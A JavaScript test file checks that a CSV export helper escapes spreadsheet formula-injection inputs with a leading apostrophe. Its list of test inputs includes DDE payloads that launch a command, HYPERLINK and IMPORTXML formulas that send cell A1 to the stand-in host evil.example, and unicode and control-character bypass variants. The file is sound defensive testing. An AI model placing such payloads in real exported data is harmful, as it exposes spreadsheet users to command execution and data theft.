import fc from 'fast-check';
import { asText } from './csv.js';

/** What spreadsheets would run, from the lists that testers use. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
  '=IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '\tx',
  '\rx',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
];

describe('a cell of a CSV', () => {
  it.each(FORMULAS)('is text where a spreadsheet would run it: %j', (formula) => {
    expect(asText(formula)).toBe(`'${formula}`);
  });

  it.each(['', 'lettre', 'a=b', '2026-11-22', '1', 'é', '{"a":"=1"}', 'it’s', '"'])(
    'is as it is where nothing runs: %j',
    (text) => {
      expect(asText(text)).toBe(text);
    },
  );

  it('gives back what it was when one apostrophe is taken away', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = asText(text);
        expect(cell.startsWith("'") ? cell.slice(1) : cell).toBe(text);
        expect(cell).not.toMatch(/^[\s\p{Cc}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
      }),
      { numRuns: 2_000 },
    );
  });
});
